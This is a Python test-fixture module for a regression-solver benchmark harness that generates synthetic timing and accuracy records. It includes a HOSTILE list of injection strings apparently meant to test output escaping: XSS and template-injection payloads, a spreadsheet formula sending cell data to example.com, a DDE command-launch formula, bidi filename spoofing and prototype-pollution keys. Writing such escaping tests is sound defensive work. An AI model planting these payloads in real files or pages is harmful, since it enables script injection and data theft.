"""Records that no solver had to make: a small run in full, one whose names are hostile, one as large as is wanted.

Times follow from a law, so that every section of a page has the same rows on every machine.
"""

import itertools
import math
from collections.abc import Iterator
from typing import Any

from harness.records.environment import Environment
from harness.records.record import Accuracy, Record, Samples, Solution, TraceRecord
from harness.solvers.solver import Kind
from harness.solvers.status import Status

HERE = Environment(
    cpu="planted processor",
    cores=2,
    memory_bytes=8_000_000_000,
    system="Linux 6.1 x86_64",
    python="CPython 3.11.9",
    blas=("openblas 0.3.30",),
    versions={"numpy": "2.3.1", "scikit-learn": "1.9.1", "torch": "2.13.0", "ls-harness": "0.1.0"},
    commit="c0ffee" + "0" * 34,
    dirty=False,
)
SOLVERS = {"numpy_lstsq": 1.0, "sklearn": 3.0, "normal_equations": 0.4}
"""Closed forms and their seconds for a cell of the design, relative to each other."""
PROBLEMS = {"synthetic": (10_000, 5), "everyday": (2_000, 2), "diabetes": (442, 10)}
"""Rows and features."""
SIZES = (1_000, 10_000, 100_000)
RATES = (0.01, 0.1, 1.0)
HOSTILE = (
    "<img src=x onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "--><svg onload=window.hacked=1>",
    "\"'><iframe srcdoc='<script>parent.hacked=1</script>'>",
    "${window.hacked=1}{{7*7}}{% raise %}",
    "javascript:window.hacked=1",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "datum.x]; window.hacked=1; event.view['",
    "'];window.hacked=1;//datum['",
    "\u202egnp.exe\u202c \u2066rtl\u2069",
    "line\u2028separator\u2029and\nnewline,comma;semicolon\t&#x3c;&lt;",
    "__proto__",
    "constructor",
    "%3Cimg%20src=x%20onerror=window.hacked=1%3E&reset=1#top",
    "long " + "x" * 10_000,
)
"""Names that a file, a library or a person could bring, each against another place that it is written to."""


def record(problem: str, solver: str, *, n: int = 2_000, p: int = 2, device: str = "cpu", **changed: Any) -> Record:
    """A closed form's record whose calls took as long as its size makes them."""
    key = f"{problem}:n={n},seed=0"
    call_s = changed.pop("call_s", 1e-5 + 1e-9 * n * p * SOLVERS.get(solver, 1.0) * (1.0 if device == "cpu" else 0.1))
    digits = changed.pop("digits", 12.0)
    terms = ("intercept", *(f"x{i}" for i in range(1, p + 1)))
    given: dict[str, Any] = {
        "case": f"{key} {solver}" + ("" if device == "cpu" else f" device={device}"),
        "problem": key,
        "problem_name": problem,
        "family": "drawn",
        "relation": "linear",
        "problem_sha256": "0" * 64,
        "n": n,
        "p": p,
        "solver": solver,
        "kind": Kind.CLOSED_FORM,
        "optimizer": None,
        "device": device,
        "threads": 1,
        "options": {"dtype": "float64"},
        "status": Status.OK,
        "unit": "fit",
        "prepare_s": 0.01,
        "peak_bytes": 16 * n * p,
        "transfer_in_s": None if device == "cpu" else 1e-4,
        "transfer_out_s": None if device == "cpu" else 1e-5,
        "accuracy": Accuracy(
            digits=digits,
            digits_by_term=(digits,) * (p + 1),
            excess_loss=10.0 ** (-2 * digits),
            excess_relative_to="L*",
            r2={"train": 0.97, "test": 0.96},
            mse={"train": 1.5, "test": 1.7},
            rank=p + 1,
            exact_rank=p + 1,
            condition_number=1e4,
            backward_error=1e-16,
            stable=True,
        ),
        "solution": Solution(terms=terms, computed=(1.0,) * (p + 1), exact=(1.0 + 10**-digits,) * (p + 1)),
        "samples": Samples(tuple(call_s * k for k in (1.0, 1.02, 1.1)), tuple(call_s * k for k in (1.0, 1.0, 1.05))),
    }
    return Record(**given | changed)


def training(problem: str, solver: str, lr: float, *, device: str = "cpu", **changed: Any) -> Record:
    """A training's record: the excess falls by exp(-4 lr) an epoch; where lr is above 0.5 the loss grows."""
    grows = lr > 0.5
    epochs = tuple(range(0, 101, 5))
    rate = 1.0 if grows else -4.0 * lr
    excess = tuple(min(10.0 * math.exp(rate * epoch), 1e30) for epoch in epochs)
    reached = {f"1e-{k}": None if grows else math.ceil((k + 1) * math.log(10) / (4 * lr)) for k in (2, 4, 6)}
    base = record(problem, solver, device=device)
    made = {
        "case": f"{base.problem} {solver} lr={lr:g}" + ("" if device == "cpu" else f" device={device}"),
        "kind": Kind.ITERATIVE,
        "optimizer": solver.removeprefix("torch_"),
        "options": {"lr": lr, "epochs": 100, "loss": "mse", "dtype": "float32", "seed": 0},
        "unit": "epoch",
        "status": Status.DIVERGED if grows else Status.OK,
        "message": "the loss is 1e30 times the first" if grows else "",
        "accuracy": Accuracy(
            digits=None if grows else 3.0,
            excess_loss=excess[-1],
            excess_relative_to="L*",
            epochs_to=reached,
            r2={"train": math.nan if grows else 0.9},
            mse={"train": math.inf if grows else 2.0},
        ),
        "trace": TraceRecord(
            epochs=100,
            epoch=epochs,
            train_loss=tuple(1 + e for e in excess),
            val_loss=tuple(1.1 + 1.2 * e for e in excess),
            val_split="val",
            excess_loss=excess,
        ),
    }
    return base.model_copy(update=made | changed)


def small_run() -> Iterator[Record]:
    """Solvers, problems, sizes, devices and learning rates that differ in every figure."""
    for problem, (n, p) in PROBLEMS.items():
        for solver, device in itertools.product(SOLVERS, ("cpu", "cuda:0")):
            wrong = (problem, solver) == ("everyday", "sklearn")
            found = {"digits": 0.0, "status": Status.WRONG, "message": "rank 2; the exact rank is 3"} if wrong else {}
            yield record(problem, solver, n=n, p=p, device=device, **found)
    for n, solver, device in itertools.product(SIZES, SOLVERS, ("cpu", "cuda:0")):
        yield record("sized", solver, n=n, p=20, device=device, digits=14.0 - SOLVERS[solver])
    for solver, lr in itertools.product(("torch_sgd", "torch_adam"), RATES):
        yield training("diabetes", solver, lr)
    why = {"status": Status.UNSUPPORTED, "message": "no such library is installed"}
    nothing = {"samples": Samples(), "accuracy": Accuracy(), "solution": None}
    yield record("diabetes", "absent").model_copy(update=why | nothing)


def faster(one: Record) -> Record:
    """The same, whose calls took four fifths of the wall time."""
    taken = one.samples
    return one.model_copy(update={"samples": Samples(tuple(0.8 * s for s in taken.wall_s), taken.cpu_s)})


def hostile_run() -> Iterator[Record]:
    """Every text that comes from a person's file or a library is one of HOSTILE."""
    for i, name in enumerate(HOSTILE):
        yield from _hostile_records(i, name)


def _hostile_records(i: int, name: str) -> Iterator[Record]:
    p = 2
    terms = ("intercept", name, HOSTILE[0])
    texts: dict[str, Any] = {
        "problem": name,
        "problem_name": name,
        "message": name,
        "warnings": (name,),
        "solution": Solution(terms=terms, computed=(1.0,) * 3, exact=(1.0,) * 3, summary=name),
    }
    wrong: dict[str, Any] = {
        "status": Status.OK if i % 2 else Status.WRONG,
        "options": {"dtype": name},
        "case": f"{name} numpy_lstsq",
    }
    yield record("p", "numpy_lstsq", p=p, digits=5.0).model_copy(update=texts | wrong)
    yield record("p", name, p=p, device="cpu" if i % 2 else "cuda:0").model_copy(
        update=texts | {"case": f"{name} {name}"}
    )
    yield training("p", "torch_sgd", RATES[i % 3]).model_copy(update=texts | {"case": f"{name} torch_sgd"})


def many_records(count: int) -> list[Record]:
    """So many records: ten solvers, sizes on a log axis, a hundred problems at the most."""
    problems = max(1, min(100, count // 100))
    found = []
    for i in range(count):
        size, solver, problem = (i // 10) // problems, i % 10, (i // 10) % problems
        found.append(
            record(
                f"problem_{problem}",
                f"solver_{solver}",
                n=100 * (size + 1),
                p=3,
                digits=2.0 + (i * 7919 % 1200) / 100,
                call_s=1e-5 * (1 + solver) * (size + 1),
            )
        )
    return found
